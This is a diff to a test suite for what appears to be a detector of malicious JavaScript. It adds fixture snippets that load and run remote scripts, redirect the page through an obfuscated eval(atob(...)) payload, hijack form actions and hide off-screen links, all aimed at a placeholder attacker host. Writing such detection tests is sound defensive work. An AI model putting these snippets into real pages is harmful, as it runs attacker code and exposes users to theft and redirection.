@@ -37,6 +37,9 @@ DONE = {
     f"$.ajax({{type:'POST',url:'{AT}'}})": ("send", "opening"),
     f"import('{AT}')": ("load", "opening"),
     f"document.forms[0].action='{AT}'": ("form", "opening"),
+    f"import {{a}} from '{AT}a.js'": ("load", "opening"),
+    f"$.ajax({{url:'{AT}',dataType:'script'}})": ("load", "opening"),
+    f"with(document)with(createElement('script'))src='{AT}'": ("load", "opening"),
     f"eval(atob('{__import__('base64').b64encode(f'location.href={AT!r};var documents=1;'.encode()).decode()}'))": (
         "move",
         "opening",
@@ -91,6 +94,11 @@ def test_what_stands_near_is_told():
     assert unpack(code).acts[0].near == {"keys", "cookie", "sent-cookie"}
     code = f"fetch('{AT}').then(r=>r.text()).then(t=>eval(t))"
     assert unpack(code).acts[0].near == {"run"}
+    assert unpack(f"import('{AT}')").acts[0].near == {"module"}
+    assert unpack(f"with(d)body.innerHTML='<a href={AT}>x</a>';a.style.left='-999px'").acts[0].near == {
+        "scoped",
+        "aside",
+    }
     assert unpack(f"fetch('{AT}').then(t=>eval('('+t+')'))").acts[0].near == frozenset()
 
 
